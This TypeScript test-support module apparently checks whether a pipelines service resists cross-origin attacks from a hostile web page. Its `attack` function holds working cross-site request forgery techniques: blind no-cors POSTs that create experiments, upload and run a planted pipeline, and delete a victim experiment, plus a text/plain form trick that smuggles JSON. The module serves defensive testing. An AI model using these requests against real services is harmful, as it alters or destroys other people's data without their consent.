import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Names that the browser under test takes to this machine, as an attacker's name server may. */
export const NAMES_OF_OTHERS = ['hostile.example', 'rebound.example']

export interface Aim {
  /** Origin of the server to attack. */
  target: string
  /** An experiment to remove. */
  victim: string
  /** A pipeline to plant and to run. */
  document: string
}

/** What an attempt came to: "ok", or in which way it failed. */
export type Outcome = Record<'send' | 'read' | 'script' | 'data' | 'image' | 'events' | 'frame' | 'remove', string>

/**
 * All that a page can try against a server of another origin without anyone's help. Runs in the page. Requests that no
 * page may read the answer of are sent all the same: what they do is what counts.
 */
export async function attack({ target, victim, document: pipeline }: Aim): Promise<Outcome> {
  const kfp = `${target}/apis/v2beta1`
  const settled = (element: HTMLElement): Promise<string> =>
    new Promise((resolve) => {
      element.addEventListener('load', () => resolve('ok'))
      element.addEventListener('error', () => resolve('blocked'))
      document.body.append(element)
    })
  const load = (tag: 'script' | 'img', path: string) => settled(Object.assign(document.createElement(tag), { src: target + path }))
  const call = async (path: string, options: RequestInit = {}) => {
    try {
      const response = await fetch(kfp + path, options)
      await response.text()
      return response.ok ? 'ok' : `refused ${response.status}`
    } catch {
      return 'blocked'
    }
  }
  const listen = () =>
    new Promise<string>((resolve) => {
      const source = new EventSource(`${target}/apis/penstock/v1/changes`)
      const end = (outcome: string) => (source.close(), resolve(outcome))
      source.addEventListener('open', () => end('ok'))
      source.addEventListener('error', () => end('blocked'))
    })
  const embed = async () => {
    const frame = Object.assign(document.createElement('iframe'), { src: `${target}/`, name: 'embedded' })
    await settled(frame)
    return frame.contentDocument?.querySelector('script') ? 'ok' : 'blocked'
  }
  const submit = async () => {
    const answer = Object.assign(document.createElement('iframe'), { name: 'answer' })
    const form = Object.assign(document.createElement('form'), { action: `${kfp}/experiments`, method: 'post', enctype: 'text/plain', target: 'answer' })
    // As text/plain this is sent as NAME=VALUE, which makes JSON of it.
    form.append(Object.assign(document.createElement('input'), { name: '{"display_name":"by form","description":"', value: '"}' }))
    document.body.append(form)
    await settled(answer)
    const answered = settled(answer)
    form.submit()
    await answered
  }
  const blind = (path: string, body: BodyInit) => fetch(target + path, { method: 'POST', mode: 'no-cors', keepalive: true, body }).catch(() => undefined)
  const upload = new FormData()
  upload.append('uploadfile', new Blob([pipeline]), 'planted.json')

  const send = await call('/experiments', { method: 'POST', body: '{"display_name":"by fetch"}' })
  await blind('/apis/v2beta1/experiments', '{"display_name":"by blind fetch"}')
  await blind('/apis/v2beta1/pipelines/upload?name=planted', upload)
  await blind('/apis/penstock/v1/runs', JSON.stringify({ display_name: 'planted', document: pipeline }))
  await submit()
  return {
    send,
    read: await call('/runs'),
    script: await load('script', '/theme.js'),
    data: await load('script', '/apis/v2beta1/runs'),
    image: await load('img', '/mark.svg'),
    events: await listen(),
    frame: await embed(),
    remove: await call(`/experiments/${victim}`, { method: 'DELETE' }),
  }
}

export interface Site {
  port: number
  /** Method and path of what was asked for, in order. */
  asked: string[]
  stop: () => void
}

type Handler = (request: IncomingMessage, response: ServerResponse) => void

function serve(handler: Handler): Promise<Site> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    request.resume().on('end', () => handler(request, response))
  })
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () =>
      resolve({ port: (server.address() as AddressInfo).port, asked, stop: () => (server.closeAllConnections(), server.close()) }),
    )
  })
}

/** An empty page, and one that holds it in a sandbox, whose origin is null. */
export function hostileSite(): Promise<Site> {
  return serve((request, response) => {
    response.setHeader('Content-Type', 'text/html')
    response.end(request.url === '/sandbox' ? '<body><iframe name="inner" sandbox="allow-scripts allow-forms" src="/"></iframe>' : '<body>')
  })
}

const TYPES: Record<string, [string, string]> = {
  '/': ['text/html', '<script></script>'],
  '/theme.js': ['text/javascript', ';'],
  '/apis/v2beta1/runs': ['text/javascript', ';'],
  '/mark.svg': ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'],
  '/apis/penstock/v1/changes': ['text/event-stream', ': hello\n\n'],
}

/** A server that takes no care and invites every origin: what an attack does where nothing stops it. */
export function carelessServer(): Promise<Site> {
  return serve((request, response) => {
    const [type, body] = TYPES[request.url ?? ''] ?? ['application/json', '{}']
    for (const what of ['Origin', 'Methods', 'Headers']) response.setHeader(`Access-Control-Allow-${what}`, '*')
    response.setHeader('Content-Type', type)
    response.end(body)
  })
}
